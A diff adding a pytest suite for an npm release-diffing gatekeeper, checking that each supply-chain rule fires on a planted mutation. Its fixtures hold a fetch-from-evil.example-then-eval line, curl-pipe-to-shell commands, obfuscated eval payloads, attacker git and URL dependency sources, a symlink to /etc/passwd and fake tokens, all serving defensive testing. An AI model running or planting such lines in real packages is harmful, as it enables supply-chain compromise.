@@ -1,0 +1,929 @@
+"""The diff rules on real npm tarballs: real releases pass untouched; each mutation trips exactly its rule."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from gatekeeper._internal.tarball import read_package
+from gatekeeper.diffing import DiffResult, added_lines, diff_packages, spec_kind
+from gatekeeper.findings import Finding, Severity
+from gatekeeper.policy import Policy, parse_policy
+from tests._support.tarballs import Entry, fixture, gz, make_tgz, mutate, package_json, tar_bytes
+
+REAL_PAIRS = [
+    ("ms-2.1.2", "ms-2.1.3"),
+    ("debug-4.3.4", "debug-4.3.5"),
+    ("semver-7.6.2", "semver-7.6.3"),
+    ("left-pad-1.2.0", "left-pad-1.3.0"),
+    ("chalk-5.3.0", "chalk-5.4.0"),
+    ("esbuild-0.20.1", "esbuild-0.20.2"),
+]
+
+
+def load(path: Path, policy: Policy | None = None):
+    return read_package(path, (policy or Policy()).diff.limits, label=path.name)
+
+
+class Differ:
+    """diff(base_fixture, tmp copy mutated) with a policy."""
+
+    def __init__(self, tmp: Path) -> None:
+        self.tmp = tmp
+        self.n = 0
+
+    def __call__(
+        self,
+        base: str,
+        *,
+        cand: str | None = None,
+        policy: Policy | str | None = None,
+        bump: str | None = None,
+        files: dict[str, bytes | str] | None = None,
+        remove: tuple[str, ...] = (),
+        manifest: Callable[[dict[str, Any]], None] | None = None,
+        modes: dict[str, int] | None = None,
+    ) -> DiffResult:
+        self.n += 1
+        pol = parse_policy(policy) if isinstance(policy, str) else policy or Policy()
+        src = fixture(cand or base)
+        version = bump or _bumped(json.loads(_members_manifest(src))["version"]) if cand is None else bump
+
+        def edit(doc: dict[str, Any]) -> None:
+            if version:
+                doc["version"] = version
+            if manifest:
+                manifest(doc)
+
+        out = mutate(src, self.tmp / f"cand{self.n}.tgz", files=files, remove=remove, manifest=edit, modes=modes)
+        return diff_packages(load(fixture(base), pol), load(out, pol), pol)
+
+
+def _members_manifest(path: Path) -> bytes:
+    from tests._support.tarballs import members
+
+    return members(path)["package.json"][0]
+
+
+def _bumped(version: str) -> str:
+    major, minor, patch = (int(x) for x in version.split("-")[0].split("."))
+    return f"{major}.{minor}.{patch + 1}"
+
+
+@pytest.fixture
+def differ(tmp_path: Path) -> Differ:
+    return Differ(tmp_path)
+
+
+def only(result: DiffResult, rule: str) -> list[Finding]:
+    found = [f for f in result.findings if f.rule == rule]
+    others = [f for f in result.findings if f.rule != rule]
+    assert found, f"expected {rule}, got {result.findings}"
+    assert not others, f"unexpected extra findings: {others}"
+    return found
+
+
+# ------------------------------------------------------------------ real releases
+
+
+@pytest.mark.parametrize(("old", "new"), REAL_PAIRS)
+def test_real_release_pairs_pass_untouched(old: str, new: str) -> None:
+    result = diff_packages(load(fixture(old)), load(fixture(new)), Policy())
+    assert result.findings == []
+    assert result.files and result.baseline_version == old.rsplit("-", 1)[1]
+    assert any(c.field == "version" for c in result.fields)
+
+
+def test_delta_lists_files_with_sizes_and_fields(differ: Differ) -> None:
+    result = differ(
+        "left-pad-1.2.0",
+        cand="left-pad-1.3.0",
+        files={"lib/new.txt": "hello"},
+        manifest=lambda d: d.update(description="changed"),
+    )
+    by = {f.path: f for f in result.files}
+    assert by["lib/new.txt"].status == "added" and by["lib/new.txt"].new_size == 5
+    assert by[".npmignore"].status == "removed" and by[".npmignore"].old_size == 27
+    assert "index.js" not in by  # unchanged files are not part of the delta
+    fields = {c.field: c for c in result.fields}
+    assert fields["description"].new == "changed" and fields["description"].line is not None
+    text, md = result.to_text(), result.to_markdown()
+    for out in (text, md):
+        assert "lib/new.txt" in out and ".npmignore" in out and "description" in out
+    assert "+ lib/new.txt  5 B" in text and "- .npmignore  27 B" in text
+    assert result.summary()["added"] == 1 and result.summary()["removed"] == 1
+
+
+def test_mode_change_is_part_of_the_delta(differ: Differ) -> None:
+    result = differ("ms-2.1.2", cand="ms-2.1.2", bump="2.1.3", modes={"index.js": 0o755})
+    assert [(f.path, f.status) for f in result.files if f.path == "index.js"] == [("index.js", "mode")]
+
+
+# ------------------------------------------------------------------ lifecycle scripts
+
+
+def add_script(name: str, command: str) -> Callable[[dict[str, Any]], None]:
+    return lambda d: d.setdefault("scripts", {}).__setitem__(name, command)
+
+
+@pytest.mark.parametrize("script", ["preinstall", "install", "postinstall"])
+def test_install_script_added_blocks_with_evidence_and_line(differ: Differ, script: str) -> None:
+    result = differ("ms-2.1.2", manifest=add_script(script, "node evil.js"))
+    (f,) = only(result, "lifecycle-script-added")
+    assert f.severity is Severity.BLOCK and '"node evil.js"' in f.message and script in f.message
+    assert f.file == "package.json" and f.line is not None
+
+
+def test_key_line_is_the_line_of_the_script_in_package_json(differ: Differ, tmp_path: Path) -> None:
+    result = differ("ms-2.1.2", manifest=add_script("postinstall", "node evil.js"))
+    f = result.findings[0]
+    cand = tmp_path / f"cand{differ.n}.tgz"
+    text = load(cand).manifest_text.splitlines()
+    assert '"postinstall"' in text[(f.line or 0) - 1]
+
+
+def test_prepare_added_only_warns(differ: Differ) -> None:
+    (f,) = only(differ("ms-2.1.2", manifest=add_script("prepare", "node build.js")), "lifecycle-script-added")
+    assert f.severity is Severity.WARN
+
+
+def test_install_script_changed_and_removed(differ: Differ) -> None:
+    changed = differ("esbuild-0.20.1", cand="esbuild-0.20.2", manifest=add_script("postinstall", "node install.js --x"))
+    (f,) = only(changed, "lifecycle-script-changed")
+    assert '"node install.js" -> "node install.js --x"' in f.message and f.blocks
+    removed = differ("esbuild-0.20.1", cand="esbuild-0.20.2", manifest=lambda d: d.pop("scripts"))
+    (g,) = only(removed, "lifecycle-script-removed")
+    assert '"node install.js"' in g.message and g.blocks
+
+
+def test_exact_script_approval_passes_only_as_written(differ: Differ) -> None:
+    policy = 'approve:\n  scripts:\n    postinstall: "node install.js"\n'
+    ok = differ("ms-2.1.2", policy=policy, manifest=add_script("postinstall", "node install.js"))
+    (f,) = only(ok, "approved-change")
+    assert f.severity is Severity.INFO and "approve.scripts.postinstall" in f.message
+    for other in ("node  install.js", "node install.js && curl x | sh", "node install.cjs"):
+        bad = differ("ms-2.1.2", policy=policy, manifest=add_script("postinstall", other))
+        (g,) = only(bad, "lifecycle-script-added")
+        assert g.blocks and "does not match" in g.message
+
+
+def test_script_removal_is_approved_with_an_empty_command(differ: Differ) -> None:
+    result = differ(
+        "esbuild-0.20.1",
+        cand="esbuild-0.20.2",
+        policy='approve: {scripts: {postinstall: ""}}',
+        manifest=lambda d: d.pop("scripts"),
+    )
+    assert [f.rule for f in result.findings] == ["approved-change"]
+
+
+# ------------------------------------------------------------------ install-time code
+
+
+def test_unchanged_command_running_changed_file_blocks(differ: Differ) -> None:
+    result = differ(
+        "esbuild-0.20.1", cand="esbuild-0.20.2", files={"install.js": "// new\nrequire('child_process');\n"}
+    )
+    (f,) = only(result, "install-script-code-changed")
+    assert f.file == "install.js" and f.line == 1 and "node install.js" in f.message and "changed" in f.message
+
+
+def test_first_changed_line_is_reported(differ: Differ) -> None:
+    from tests._support.tarballs import members
+
+    original = members(fixture("esbuild-0.20.2"))["install.js"][0]
+    lines = original.split(b"\n")
+    lines[40] = b"fetch('https://evil.example/x').then(eval);"
+    result = differ("esbuild-0.20.1", cand="esbuild-0.20.2", files={"install.js": b"\n".join(lines)})
+    (f,) = only(result, "install-script-code-changed")
+    assert f.line == 41
+
+
+def test_transitive_requires_of_the_install_script(differ: Differ) -> None:
+    base = differ.tmp / "base.tgz"
+    files = {
+        "package.json": package_json(scripts={"postinstall": "node ./scripts/postinstall"}),
+        "scripts/postinstall.js": "const h = require('./helper');\nrequire('../lib')\n",
+        "scripts/helper.js": "module.exports = require(require('path').join(__dirname, 'deep.js'))\n",
+        "scripts/deep.js": "module.exports = 1\n",
+        "lib/index.js": "module.exports = 2\n",
+        "lib/other.js": "unrelated\n",
+    }
+    make_tgz(files, base)
+    for changed, via in [
+        ("scripts/deep.js", "scripts/helper.js"),
+        ("lib/index.js", "scripts/postinstall.js"),
+        ("scripts/postinstall.js", None),
+    ]:
+        cand = make_tgz(
+            {
+                **files,
+                changed: files[changed] + "// changed\n",
+                "package.json": files["package.json"].replace("1.0.0", "1.0.1"),
+            },
+            differ.tmp / "c.tgz",
+        )
+        result = diff_packages(load(base), load(cand), Policy())
+        (f,) = only(result, "install-script-code-changed")
+        assert f.file == changed and (via is None or via in f.message)
+    cand = make_tgz(
+        {**files, "lib/other.js": "changed\n", "package.json": files["package.json"].replace("1.0.0", "1.0.1")},
+        differ.tmp / "c2.tgz",
+    )
+    assert diff_packages(load(base), load(cand), Policy()).findings == []
+
+
+@pytest.mark.parametrize(
+    ("command", "runs"),
+    [
+        ("node -e \"try{require('./postinstall')}catch(e){}\"", "postinstall.js"),
+        ("FOO=1 node --require ./hook.js x.js", "hook.js"),
+        ("sh ./setup.sh", "setup.sh"),
+        ("bash -c 'node x.js'", "x.js"),
+        ("./setup.sh && echo ok", "setup.sh"),
+        ("node .", "main.js"),
+        ("cross-env A=b node x", "x.js"),
+    ],
+)
+def test_command_forms_that_run_package_files(differ: Differ, command: str, runs: str) -> None:
+    files = {
+        "package.json": package_json(main="main.js", scripts={"install": command}),
+        "postinstall.js": "a\n",
+        "hook.js": "a\n",
+        "setup.sh": "a\n",
+        "x.js": "a\n",
+        "main.js": "a\n",
+    }
+    base = make_tgz(files, differ.tmp / "b.tgz")
+    cand = make_tgz(
+        {**files, runs: "b\n", "package.json": files["package.json"].replace("1.0.0", "1.0.1")}, differ.tmp / "c.tgz"
+    )
+    (f,) = only(diff_packages(load(base), load(cand), Policy()), "install-script-code-changed")
+    assert f.file == runs
+
+
+def test_npm_run_of_a_changed_script_is_install_code(differ: Differ) -> None:
+    result = differ(
+        "ms-2.1.2",
+        manifest=lambda d: d["scripts"].update(postinstall="npm run setup", setup="node a.js"),
+    )
+    assert {f.rule for f in result.findings} == {"lifecycle-script-added", "install-script-code-changed"}
+    code = next(f for f in result.findings if f.rule == "install-script-code-changed")
+    assert "setup" in code.message and '"node a.js"' in code.message
+
+
+def test_install_file_approval_by_path(differ: Differ) -> None:
+    result = differ(
+        "esbuild-0.20.1",
+        cand="esbuild-0.20.2",
+        policy="approve: {files: [install.js]}",
+        files={"install.js": "// reviewed\n"},
+    )
+    assert [f.rule for f in result.findings] == ["approved-change"]
+
+
+# ------------------------------------------------------------------ native build
+
+
+def test_binding_gyp_added_without_install_script(differ: Differ) -> None:
+    (f,) = only(differ("ms-2.1.2", files={"binding.gyp": "{'targets': []}"}), "native-build-added")
+    assert "node-gyp rebuild" in f.message and f.file == "binding.gyp"
+    assert differ("ms-2.1.2", files={"binding.gyp": "{}"}, manifest=lambda d: d.update(gypfile=False)).findings == []
+    approved = differ("ms-2.1.2", policy="approve: {files: [binding.gyp]}", files={"binding.gyp": "{}"})
+    assert [f.rule for f in approved.findings] == ["approved-change"]
+
+
+def test_gypfile_turning_on(differ: Differ, tmp_path: Path) -> None:
+    files = {"package.json": package_json(gypfile=False), "binding.gyp": "{}"}
+    base = make_tgz(files, tmp_path / "b.tgz")
+    cand = make_tgz({**files, "package.json": package_json(version="1.0.1")}, tmp_path / "c.tgz")
+    (f,) = only(diff_packages(load(base), load(cand), Policy()), "native-build-added")
+    assert "gypfile turned on" in f.message
+
+
+# ------------------------------------------------------------------ dependencies
+
+
+def test_dependency_added_blocks_in_patch_warns_in_minor(differ: Differ) -> None:
+    add = lambda d: d["dependencies"].update({"left-pad": "^1.3.0"})  # noqa: E731
+    (patch,) = only(differ("debug-4.3.4", cand="debug-4.3.5", manifest=add), "dependency-added")
+    assert patch.blocks and '"left-pad"' in patch.message and "patch release" in patch.message and patch.line
+    (minor,) = only(differ("debug-4.3.4", cand="debug-4.3.5", bump="4.4.0", manifest=add), "dependency-added")
+    assert minor.severity is Severity.WARN
+    approved = differ("debug-4.3.4", cand="debug-4.3.5", policy="approve: {dependencies: [left-pad]}", manifest=add)
+    assert [f.rule for f in approved.findings] == ["approved-change"]
+    other = differ("debug-4.3.4", cand="debug-4.3.5", policy="approve: {dependencies: [left-pads]}", manifest=add)
+    assert [f.rule for f in other.findings] == ["dependency-added"]
+
+
+def test_dependency_moved_between_sections_is_not_added(differ: Differ) -> None:
+    def move(d: dict[str, Any]) -> None:
+        d["optionalDependencies"] = d.pop("dependencies")
+
+    assert differ("debug-4.3.4", cand="debug-4.3.5", manifest=move).findings == []
+
+
+@pytest.mark.parametrize(
+    ("spec", "kind"),
+    [
+        ("^1.2.3", "registry"),
+        ("latest", "registry"),
+        ("1.x || >=2.5.0", "registry"),
+        ("*", "registry"),
+        ("github:user/repo", "git"),
+        ("user/repo#v1", "git"),
+        ("git+https://host/x.git", "git"),
+        ("https://host/x.git#main", "git"),
+        ("https://host/x.tgz", "url"),
+        ("file:../x", "file"),
+        ("link:../x", "file"),
+        ("./local", "file"),
+        ("npm:evil@1.0.0", "alias"),
+        ("workspace:*", "workspace"),
+    ],
+)
+def test_spec_kind(spec: str, kind: str) -> None:
+    assert spec_kind(spec) == kind
+
+
+@pytest.mark.parametrize(
+    "spec", ["github:attacker/ms", "https://evil.example/ms.tgz", "npm:evil-ms@2.1.2", "file:../ms"]
+)
+def test_dependency_source_changed(differ: Differ, spec: str) -> None:
+    result = differ("debug-4.3.4", cand="debug-4.3.5", manifest=lambda d: d["dependencies"].update(ms=spec))
+    (f,) = only(result, "dependency-source-changed")
+    assert json.dumps(spec) in f.message and '(was "2.1.2")' in f.message and f.blocks and f.line
+    ok = differ(
+        "debug-4.3.4",
+        cand="debug-4.3.5",
+        policy=f"approve: {{sources: {{ms: {json.dumps(spec)}}}}}",
+        manifest=lambda d: d["dependencies"].update(ms=spec),
+    )
+    assert [f.rule for f in ok.findings] == ["approved-change"]
+    wrong = differ(
+        "debug-4.3.4",
+        cand="debug-4.3.5",
+        policy='approve: {sources: {ms: "github:attacker/ms#other"}}',
+        manifest=lambda d: d["dependencies"].update(ms=spec),
+    )
+    assert [f.rule for f in wrong.findings] == ["dependency-source-changed"]
+
+
+def test_unchanged_non_registry_source_passes(tmp_path: Path) -> None:
+    files = {"package.json": package_json(dependencies={"x": "github:o/x#v1"})}
+    base = make_tgz(files, tmp_path / "b.tgz")
+    cand = make_tgz(
+        {"package.json": package_json(version="1.0.1", dependencies={"x": "github:o/x#v1"})}, tmp_path / "c.tgz"
+    )
+    assert diff_packages(load(base), load(cand), Policy()).findings == []
+
+
+def test_peer_dependency_from_git(differ: Differ) -> None:
+    result = differ("ms-2.1.2", bump="2.2.0", manifest=lambda d: d.update(peerDependencies={"x": "git://h/x.git"}))
+    assert {f.rule for f in result.findings} == {"dependency-added", "dependency-source-changed"}
+
+
+def test_bundled_dependencies(differ: Differ, tmp_path: Path) -> None:
+    result = differ(
+        "debug-4.3.4",
+        cand="debug-4.3.5",
+        manifest=lambda d: d.update(bundleDependencies=["ms"]),
+        files={"node_modules/ms/index.js": "module.exports = 1\n"},
+    )
+    (f,) = only(result, "bundled-dependencies-changed")
+    assert '"ms" added to the bundle' in f.message
+    files = {
+        "package.json": package_json(dependencies={"ms": "1"}, bundleDependencies=["ms"]),
+        "node_modules/ms/index.js": "a\n",
+        "node_modules/ms/package.json": '{"name":"ms","version":"1.0.0"}',
+    }
+    base = make_tgz(files, tmp_path / "b.tgz")
+    cand = make_tgz(
+        {**files, "package.json": files["package.json"].replace("1.0.0", "1.0.1"), "node_modules/ms/index.js": "b\n"},
+        tmp_path / "c.tgz",
+    )
+    (g,) = only(diff_packages(load(base), load(cand), Policy()), "bundled-dependencies-changed")
+    assert "bundled code changed" in g.message
+
+
+# ------------------------------------------------------------------ bin and entry points
+
+
+def test_bin_retargeted_or_added(differ: Differ) -> None:
+    (f,) = only(
+        differ(
+            "semver-7.6.2",
+            cand="semver-7.6.3",
+            manifest=lambda d: d["bin"].update(semver="bin/x.js"),
+            files={"bin/x.js": "x\n"},
+        ),
+        "bin-changed",
+    )
+    assert '"bin/semver.js" -> "bin/x.js"' in f.message and f.line
+    (g,) = only(
+        differ("semver-7.6.2", cand="semver-7.6.3", manifest=lambda d: d["bin"].update(other="./bin/semver.js")),
+        "bin-changed",
+    )
+    assert '"other" added' in g.message
+    ok = differ(
+        "semver-7.6.2",
+        cand="semver-7.6.3",
+        policy='approve: {bin: {other: "bin/semver.js"}}',
+        manifest=lambda d: d["bin"].update(other="./bin/semver.js"),
+    )
+    assert [f.rule for f in ok.findings] == ["approved-change"]
+
+
+def test_entrypoint_pointing_at_a_new_file_warns(differ: Differ) -> None:
+    result = differ(
+        "chalk-5.3.0",
+        cand="chalk-5.4.0",
+        files={"source/evil.js": "export default 1\n"},
+        manifest=lambda d: d.update(exports="./source/evil.js"),
+    )
+    (f,) = only(result, "entrypoint-changed")
+    assert f.severity is Severity.WARN and '"source/evil.js"' in f.message and "added in this release" in f.message
+    main = differ("ms-2.1.2", manifest=lambda d: d.update(main="other.js"), files={"other.js": "1\n"})
+    assert [f.rule for f in main.findings] == ["entrypoint-changed"]
+
+
+# ------------------------------------------------------------------ sensitive files and secrets
+
+
+@pytest.mark.parametrize(
+    "path", [".npmrc", ".env", ".env.production", "certs/server.pem", "id_rsa", "keys/id_ed25519", ".git/config"]
+)
+def test_sensitive_paths(differ: Differ, path: str) -> None:
+    (f,) = only(differ("ms-2.1.2", files={path: "x"}), "sensitive-file")
+    assert f.file == path and f.blocks
+
+
+def test_harmless_lookalikes_pass(differ: Differ) -> None:
+    result = differ("ms-2.1.2", files={".env.example": "A=1", "id_rsa.pub": "ssh-rsa AAAA", ".gitignore": "x"})
+    assert result.findings == []
+
+
+TOKENS = {
+    "npm": "npm_" + "a1B2" * 9,
+    "github": "ghp_" + "Z9y8" * 9,
+    "aws": "AKIA" + "ABCDEFGHIJKLMNOP",
+    "key": "-----BEGIN OPENSSH PRIVATE KEY-----",
+    "npmrc": "//registry.npmjs.org/:_authToken=abcdef0123456789abcdef",
+}
+
+
+@pytest.mark.parametrize("kind", TOKENS)
+def test_credentials_in_added_lines_of_changed_files(differ: Differ, kind: str) -> None:
+    from tests._support.tarballs import members
+
+    original = members(fixture("ms-2.1.3"))["index.js"][0].decode()
+    lines = original.split("\n")
+    lines.insert(20, f"var t = '{TOKENS[kind]}';")
+    result = differ("ms-2.1.2", cand="ms-2.1.3", bump="2.1.4", files={"index.js": "\n".join(lines)})
+    (f,) = only(result, "sensitive-file")
+    assert f.file == "index.js" and f.line == 21
+    if kind != "key":
+        assert TOKENS[kind] not in f.message  # masked
+
+
+def test_aws_documentation_example_key_is_ignored(differ: Differ) -> None:
+    assert differ("ms-2.1.2", files={"docs.md": "AKIAIOSFODNN7EXAMPLE"}).findings == []
+
+
+def test_credentials_already_in_the_baseline_are_not_reported_again(tmp_path: Path) -> None:
+    files = {"package.json": package_json(), "a.js": f"x = '{TOKENS['npm']}'\n"}
+    base = make_tgz(files, tmp_path / "b.tgz")
+    cand = make_tgz(
+        {**files, "package.json": package_json(version="1.0.1"), "a.js": files["a.js"] + "y = 1\n"}, tmp_path / "c.tgz"
+    )
+    assert diff_packages(load(base), load(cand), Policy()).findings == []
+
+
+# ------------------------------------------------------------------ binaries
+
+
+@pytest.mark.parametrize(
+    ("data", "kind"),
+    [
+        (b"\x7fELF\x02\x01\x01" + bytes(100), "ELF"),
+        (b"\xcf\xfa\xed\xfe" + bytes(100), "Mach-O"),
+        (b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(100), "universal Mach-O"),
+        (b"MZ" + bytes(0x3A) + (0x40).to_bytes(4, "little") + b"PE\0\0" + bytes(50), "PE"),
+    ],
+)
+def test_executable_binaries(differ: Differ, data: bytes, kind: str) -> None:
+    (f,) = only(differ("ms-2.1.2", files={"bin/tool": data}), "executable-binary-added")
+    assert kind in f.message and f.file == "bin/tool"
+    ok = differ("ms-2.1.2", files={"bin/tool": data}, policy="approve: {files: [bin/tool]}")
+    assert [f.rule for f in ok.findings] == ["approved-change"]
+
+
+def test_node_addon_and_not_java_class(differ: Differ) -> None:
+    (f,) = only(differ("ms-2.1.2", files={"build/Release/addon.node": b"\0\0"}), "executable-binary-added")
+    assert ".node" in f.message
+    java = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(20)
+    assert differ("ms-2.1.2", files={"A.class": java, "MZ.txt": "MZ is just text here"}).findings == []
+
+
+# ------------------------------------------------------------------ obfuscated code
+
+
+CHALK = "source/index.js"
+
+
+def chalk_with(extra: str, at: int = 10) -> str:
+    from tests._support.tarballs import members
+
+    lines = members(fixture("chalk-5.4.0"))[CHALK][0].decode().split("\n")
+    lines.insert(at, extra)
+    return "\n".join(lines)
+
+
+@pytest.mark.parametrize(
+    ("code", "label"),
+    [
+        ("eval(Buffer.from(process.env.npm_package_description, 'hex').toString());", "eval/Function/vm"),
+        ("new Function(atob('ZG9jdW1lbnQ='))();", "eval/Function/vm"),
+        ("require('vm').runInThisContext(decodeURIComponent('%61'));", "eval/Function/vm"),
+        ("const p = '" + "QUJD" * 400 + "';", "base64/hex"),
+        ("const p = '" + "ab" * 500 + "';", "base64/hex"),
+        ("var s = '\\x65\\x76\\x61\\x6c\\x28\\x31\\x29\\x3b\\x0a';", "escaped"),
+        ("var _0x1a2b=1,_0x3c4d=2,_0x5e6f=3,_0x7a8b=4,_0x9c0d=_0x1a2b+_0x3c4d;", "_0x identifiers"),
+        ("var a=" + "1+" * 2000 + "1;", "not minified before"),
+    ],
+)
+def test_obfuscation_signals_in_changed_js(differ: Differ, code: str, label: str) -> None:
+    result = differ("chalk-5.3.0", cand="chalk-5.4.0", files={CHALK: chalk_with(code)})
+    (f,) = only(result, "obfuscated-code")
+    assert label in f.message and f.file == CHALK and f.line == 11 and f.blocks
+
+
+def test_obfuscation_signal_in_an_added_js_file(differ: Differ) -> None:
+    (f,) = only(differ("ms-2.1.2", files={"lib/x.js": "\n\neval(atob('YQ=='))\n"}), "obfuscated-code")
+    assert f.line == 3
+    assert differ("ms-2.1.2", files={"lib/x.txt": "eval(atob('YQ=='))"}).findings == []
+
+
+def test_signal_already_in_the_previous_release_is_not_new(tmp_path: Path) -> None:
+    blob = "'" + "QUJD" * 400 + "'"
+    files = {"package.json": package_json(), "wasm.js": f"module.exports = {blob};\n"}
+    base = make_tgz(files, tmp_path / "b.tgz")
+    cand = make_tgz(
+        {"package.json": package_json(version="1.0.1"), "wasm.js": f"module.exports = {blob[:-5]}AAAA';\n"},
+        tmp_path / "c.tgz",
+    )
+    assert diff_packages(load(base), load(cand), Policy()).findings == []
+
+
+def test_long_lines_in_an_already_minified_file_pass(tmp_path: Path) -> None:
+    files = {"package.json": package_json(), "dist/x.min.js": "var a=" + "1+" * 2000 + "1;\n"}
+    base = make_tgz(files, tmp_path / "b.tgz")
+    cand = make_tgz(
+        {"package.json": package_json(version="1.0.1"), "dist/x.min.js": "var b=" + "2+" * 2000 + "2;\n"},
+        tmp_path / "c.tgz",
+    )
+    assert diff_packages(load(base), load(cand), Policy()).findings == []
+
+
+# ------------------------------------------------------------------ versions, size, safety
+
+
+@pytest.mark.parametrize(
+    ("version", "text"), [("2.1.2", "not above"), ("2.0.0", "not above"), ("v-next", "not valid semver")]
+)
+def test_version_not_increasing(differ: Differ, version: str, text: str) -> None:
+    (f,) = only(differ("ms-2.1.2", bump=version), "version-not-increasing")
+    assert text in f.message and f.file == "package.json" and f.line
+
+
+def test_prerelease_ordering(differ: Differ) -> None:
+    assert differ("ms-2.1.2", bump="2.1.3-beta.1").findings == []
+    assert [f.rule for f in differ("ms-2.1.2", bump="2.1.2-rc.1").findings] == ["version-not-increasing"]
+
+
+def test_large_change_warns_over_policy_thresholds(differ: Differ) -> None:
+    files = {f"data/{i}.txt": "x" * 100 for i in range(5)}
+    (f,) = only(differ("ms-2.1.2", files=files, policy="diff: {large-change: {added-files: 3}}"), "large-change")
+    assert f.severity is Severity.WARN and "5 files" in f.message
+    (g,) = only(differ("ms-2.1.2", files=files, policy="diff: {large-change: {added-bytes: 400}}"), "large-change")
+    assert "400 B" in g.message
+    assert differ("ms-2.1.2", files=files).findings == []
+
+
+def test_unsafe_candidate_blocks_and_nothing_else_runs(tmp_path: Path) -> None:
+    evil = tmp_path / "evil.tgz"
+    evil.write_bytes(
+        gz(
+            tar_bytes(
+                [
+                    Entry("package/package.json", package_json(scripts={"postinstall": "x"}).encode()),
+                    Entry("package/l", type=b"2", linkname="/etc/passwd"),
+                ]
+            )
+        )
+    )
+    result = diff_packages(load(fixture("ms-2.1.2")), load(evil), Policy())
+    (f,) = only(result, "tarball-unsafe")
+    assert "candidate" in f.message and "symlink" in f.message and f.blocks and result.files == []
+
+
+def test_unsafe_baseline_entry_warns_but_incomplete_baseline_blocks(tmp_path: Path) -> None:
+    base = tmp_path / "b.tgz"
+    base.write_bytes(
+        gz(
+            tar_bytes(
+                [Entry("package/package.json", package_json().encode()), Entry("package/l", type=b"2", linkname="x")]
+            )
+        )
+    )
+    cand = make_tgz({"package.json": package_json(version="1.0.1")}, tmp_path / "c.tgz")
+    (f,) = only(diff_packages(load(base), load(cand), Policy()), "tarball-unsafe")
+    assert f.severity is Severity.WARN and "baseline" in f.message
+    base.write_bytes(base.read_bytes()[:50])
+    (g,) = only(diff_packages(load(base), load(cand), Policy()), "tarball-unsafe")
+    assert g.blocks
+
+
+def test_candidate_without_package_json(tmp_path: Path) -> None:
+    cand = make_tgz({"index.js": "1"}, tmp_path / "c.tgz")
+    (f,) = only(diff_packages(None, load(cand), Policy()), "tarball-unsafe")
+    assert "no package.json" in f.message and f.file == "package.json"
+
+
+def test_first_release_reports_install_time_risks_only(tmp_path: Path) -> None:
+    files = {
+        "package.json": package_json(scripts={"postinstall": "node i.js"}, dependencies={"a": "1", "b": "github:o/b"}),
+        "i.js": "1\n",
+        ".npmrc": "x",
+    }
+    result = diff_packages(None, load(make_tgz(files, tmp_path / "c.tgz")), Policy())
+    assert sorted(f.rule for f in result.findings) == [
+        "dependency-source-changed",
+        "lifecycle-script-added",
+        "sensitive-file",
+    ]
+    assert result.release_type == "first" and all(f.status == "added" for f in result.files)
+
+
+# ------------------------------------------------------------------ the anchored line diff
+
+
+def test_added_lines_finds_changes_far_apart_and_after_large_insertions() -> None:
+    old = b"".join(b"line %d some text to make it longer\n" % i for i in range(60000))
+    lines = old.split(b"\n")
+    lines[5] = b"CHANGED A"
+    lines[30000:30000] = [b"INSERTED %d" % i for i in range(20000)]  # > the search window
+    lines[-3] = b"CHANGED Z"
+    new = b"\n".join(lines)
+    got = added_lines(old, new)
+    texts = [t for _, t in got]
+    assert texts[0] == b"CHANGED A" and texts[-1] == b"CHANGED Z" and len(texts) == 20002
+    for off, text in got:
+        assert new[off : off + len(text)] == text
+
+
+def test_added_lines_of_identical_deleted_and_rewritten() -> None:
+    data = b"a\nb\nc\n" * 50000
+    assert added_lines(data, data) == []
+    assert added_lines(data, data[: len(data) // 2]) == []
+    assert [t for _, t in added_lines(b"x\ny\n", b"p\nq\n")] == [b"p", b"q"]
+    assert [t for _, t in added_lines(b"", b"p\n\nq")] == [b"p", b"q"]
+
+
+def test_binding_gyp_changed_while_native_build_is_on(tmp_path: Path) -> None:
+    files = {"package.json": package_json(), "binding.gyp": "{'targets': []}\n", "src/a.cc": "int a;\n"}
+    base = make_tgz(files, tmp_path / "b.tgz")
+    changed = {**files, "package.json": package_json(version="1.0.1")}
+    assert diff_packages(load(base), load(make_tgz(changed, tmp_path / "c.tgz")), Policy()).findings == []
+    changed["binding.gyp"] = "{'targets': [{'actions': [{'action': ['sh', '-c', 'curl x | sh']}]}]}\n"
+    (f,) = only(
+        diff_packages(load(base), load(make_tgz(changed, tmp_path / "d.tgz")), Policy()), "install-script-code-changed"
+    )
+    assert f.file == "binding.gyp" and "node-gyp rebuild" in f.message
+
+
+# ------------------------------------------------------------------ the gate (registry side), with a fake registry
+
+
+class FakeRegistry:
+    """packument/keys/download as RegistryClient answers them, from in-memory data."""
+
+    def __init__(
+        self,
+        name: str,
+        releases: dict[str, Path],
+        *,
+        tags: dict[str, str] | None = None,
+        keys: list[dict[str, Any]] | None = None,
+    ) -> None:
+        from gatekeeper._internal.signatures import sri_sha512
+
+        self.blobs = {f"https://reg.test/{name}/-/{v}.tgz": p.read_bytes() for v, p in releases.items()}
+        self.doc: dict[str, Any] | None = {
+            "name": name,
+            "dist-tags": tags or ({"latest": max(releases, key=_vkey)} if releases else {}),
+            "versions": {
+                v: {
+                    "name": name,
+                    "version": v,
+                    "dist": {"tarball": f"https://reg.test/{name}/-/{v}.tgz", "integrity": sri_sha512(p.read_bytes())},
+                }
+                for v, p in releases.items()
+            },
+            "time": {v: "2024-01-01T00:00:00.000Z" for v in releases},
+        }
+        self.served_keys = keys
+        self.downloads: list[str] = []
+
+    def packument(self, name: str) -> dict[str, Any] | None:
+        return self.doc if self.doc and self.doc["versions"] else None
+
+    def keys(self) -> list[dict[str, Any]] | None:
+        return self.served_keys
+
+    def download(self, url: str, max_bytes: int) -> bytes:
+        self.downloads.append(url)
+        return self.blobs[url]
+
+
+def _vkey(v: str) -> tuple[int, ...]:
+    return tuple(int(x) for x in v.split("-")[0].split("."))
+
+
+def gate_ctx(tmp_path: Path, tarball: Path, registry: Any, policy: Policy | None = None):
+    from gatekeeper._internal.npm import integrity_of
+    from gatekeeper.config import Inputs
+    from gatekeeper.context import Context, GitHubRun, PackedTarball
+
+    integrity, shasum = integrity_of(tarball.read_bytes())
+    return Context(
+        inputs=Inputs.from_env({}),
+        env={},
+        run=GitHubRun.from_env({}),
+        workspace=tmp_path,
+        package_dir=tmp_path,
+        policy=policy or Policy(),
+        registry=registry,
+        tarball=PackedTarball(tarball, integrity, shasum, tarball.stat().st_size),
+    )
+
+
+def test_gate_diffs_against_the_latest_release(tmp_path: Path) -> None:
